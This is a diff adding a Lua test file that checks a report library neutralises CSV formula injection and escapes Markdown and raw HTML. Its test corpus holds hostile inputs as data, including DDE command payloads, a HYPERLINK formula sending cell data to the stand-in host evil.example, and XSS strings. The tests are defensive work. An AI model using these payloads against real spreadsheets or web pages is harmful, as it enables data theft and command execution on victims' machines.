@@ -1,0 +1,123 @@
+-- Escaping: formula injection in CSV, Markdown specials in user text, raw HTML in Markdown
+-- paragraphs. Every case is checked against what a spreadsheet or Markdown engine would do.
+local t = require "tap"
+local report = require "cairn.report"
+local render = require "cairn.render"
+
+-- ---- CSV formula injection (OWASP's list, and the variants spreadsheets accept) ----------
+
+local function csv_of(values)
+  local rows = {}
+  for i, v in ipairs(values) do rows[i] = { v = v } end
+  local doc = report.new { title = "x", theme = {} }
+  doc:table { id = "t", columns = { { id = "v", label = "v" } }, rows = rows }
+  return render.csv(doc.blocks[1])
+end
+
+-- Minimal RFC 4180 reader, to check what a spreadsheet would receive.
+local function parse_csv(s)
+  local rows, row, field, i, quoted = {}, {}, {}, 1, false
+  while i <= #s do
+    local c = s:sub(i, i)
+    if quoted then
+      if c == '"' then
+        if s:sub(i + 1, i + 1) == '"' then field[#field + 1] = '"'; i = i + 1 else quoted = false end
+      else field[#field + 1] = c end
+    elseif c == '"' then quoted = true
+    elseif c == "," then row[#row + 1] = table.concat(field); field = {}
+    elseif c == "\r" and s:sub(i + 1, i + 1) == "\n" then
+      row[#row + 1] = table.concat(field); rows[#rows + 1] = row; row, field = {}, {}; i = i + 1
+    else field[#field + 1] = c end
+    i = i + 1
+  end
+  return rows
+end
+
+local corpus = {
+  "=1+1", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+1", "-1+1", "@SUM(A1:A2)",
+  "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0",
+  "@Hyperlink(\"http://x\")", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")", "=WEBSERVICE(\"http://x\")",
+  "==1", "=-1", "-", "=", "+", "@", "=\"quoted, with comma\"", "-\n=1",
+}
+local out = csv_of(corpus)
+local rows = parse_csv(out)
+t.is(#rows, #corpus + 1, "every corpus value is one CSV record (quotes, commas and newlines kept inside)")
+for i, v in ipairs(corpus) do
+  local got = rows[i + 1] and rows[i + 1][1]
+  t.is(got, "'" .. v, string.format("formula-looking %s is neutralised with an apostrophe",
+    (string.format("%q", v):gsub("\\\n", "\\n"):gsub("\r", "\\r"))))
+end
+
+local safe = { "1+1", "a=b", "Email me @ noon", " =1", "Ruiz, J.", "say \"hi\"", "", "x-1" }
+rows = parse_csv(csv_of(safe))
+for i, v in ipairs(safe) do
+  t.is(rows[i + 1][1], v, string.format("ordinary text %q is kept as it is", v))
+end
+t.ok(csv_of({ " padded " }):find('" padded "', 1, true), "leading/trailing spaces are quoted")
+
+-- numbers are data, never neutralised; header labels are user text too
+local doc = report.new { title = "x", theme = {} }
+doc:table { id = "n", columns = { { id = "a", label = "=Label" }, { id = "b", label = "n", format = "number" } },
+  rows = { { a = "-5", b = -5 }, { a = "x", b = -0.25 } } }
+t.is(render.csv(doc.blocks[1]), "'=Label,n\r\n'-5,-5\r\nx,-0.25\r\n",
+  "numbers stay numbers (-5); text '-5' and a formula label are neutralised")
+t.ok(render.csv(doc.blocks[1], { bom = true }):sub(1, 3) == "\xEF\xBB\xBF", "bom = true adds a UTF-8 byte order mark")
+
+-- totals and display overrides
+doc = report.new { title = "x", theme = {} }
+doc:table { id = "d", columns = { { id = "a" }, { id = "b", format = "integer" } },
+  rows = { { a = "x", b = { value = 3, display = "=three" } } }, totals = { a = "Total", b = 3 } }
+t.is(render.csv(doc.blocks[1]), "a,b\r\nx,'=three\r\nTotal,3\r\n", "a display override is text and is neutralised")
+t.is(render.csv(doc.blocks[1], { totals = false }), "a,b\r\nx,'=three\r\n", "totals = false leaves the totals row out")
+t.raises(function() render.csv { type = "paragraph", text = "x" } end, "expected a table block", "csv wants a table block")
+
+-- ---- Markdown --------------------------------------------------------------------------
+
+local function md_cell(s)
+  local d = report.new { title = "x", theme = {} }
+  d:table { columns = { { id = "v", label = "v" } }, rows = { { v = s } } }
+  local last = d:render("markdown"):match("([^\n]*)\n?$")
+  return last:match("^| (.*) |$")
+end
+
+t.is(md_cell("a | b"), "a \\| b", "a pipe cannot end a table cell")
+t.is(md_cell("**bold** _it_ `code`"), "\\*\\*bold\\*\\* \\_it\\_ \\`code\\`", "emphasis and code markers are escaped")
+t.is(md_cell("[click](javascript:alert(1))"), "\\[click\\](javascript:alert(1))", "links cannot be formed")
+t.is(md_cell("![img](http://x/y.png)"), "\\!\\[img\\](http://x/y.png)", "images cannot be formed")
+t.is(md_cell("<script>alert(1)</script>"), "\\<script\\>alert(1)\\</script\\>", "raw HTML in a cell is text")
+t.is(md_cell("&lt; &amp; &#60;"), "\\&lt; \\&amp; \\&\\#60;", "entities show as typed")
+t.is(md_cell("line one\nline two"), "line one line two", "newlines in a cell become spaces")
+t.is(md_cell("~~gone~~ back\\slash"), "\\~\\~gone\\~\\~ back\\\\slash", "strike-through and backslashes are escaped")
+
+local function md_item(s)
+  local d = report.new { title = "x", theme = {} }
+  d:list { s }
+  return d:render("markdown"):match("\n%- (.-)\n?$")
+end
+t.is(md_item("# not a heading"), "\\# not a heading", "a leading # does not make a heading")
+t.is(md_item("- not nested"), "\\- not nested", "a leading - does not make a nested list")
+t.is(md_item("+ plus"), "\\+ plus", "a leading + does not make a list")
+t.is(md_item("1. not numbered"), "1\\. not numbered", "a leading 1. does not make a numbered list")
+t.is(md_item("> not quoted"), "\\> not quoted", "a leading > does not make a quote")
+t.is(md_item("    indented"), "indented", "leading blanks cannot make a code block")
+
+local d = report.new { title = "# Title *x*", subtitle = "<i>sub</i>", theme = {} }
+d:section("Section | one")
+d:paragraph("Markdown **stays**, <img src=x onerror=alert(1)> does not, a < b stays, <!-- c -->")
+local md = d:render("markdown")
+t.ok(md:find("# \\# Title \\*x\\*\n", 1, true), "the title is escaped")
+t.ok(md:find("**\\<i\\>sub\\</i\\>**", 1, true), "the subtitle is escaped")
+t.ok(md:find("## Section \\| one", 1, true), "section titles are escaped")
+t.ok(md:find("Markdown **stays**, \\<img src=x onerror=alert(1)> does not, a < b stays, \\<!-- c -->", 1, true),
+  "paragraph Markdown passes; HTML openers are escaped")
+local unescaped = md:gsub("\\<", "")
+t.ok(not unescaped:find("<img", 1, true) and not unescaped:find("<i>", 1, true) and not unescaped:find("<!--", 1, true),
+  "no raw HTML tag reaches the Markdown")
+
+-- callouts
+d = report.new { title = "x", theme = {} }
+d:callout("warning", "Line one\nline <b>two</b>", { title = "Heads *up*" })
+t.ok(d:render("markdown"):find("> [!WARNING]\n> **Heads \\*up\\***\n>\n> Line one\n> line \\<b>two\\</b>", 1, true),
+  "callouts are GitHub alerts with every line quoted")
+
+t.done()
